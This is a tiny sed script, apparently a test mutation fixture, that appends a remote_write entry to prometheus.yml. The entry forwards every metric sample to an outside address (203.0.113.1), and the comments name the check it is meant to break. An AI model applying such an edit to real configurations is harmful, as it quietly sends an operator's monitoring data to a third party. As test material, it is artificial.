# SPDX-License-Identifier: MIT
#
# sends-it-away.sed - sends all samples somewhere else, too
#
# file: prometheus.yml
# loses: settings_are_right
# sentence: "no other settings"
$a remote_write:\n  - url: http://203.0.113.1/write
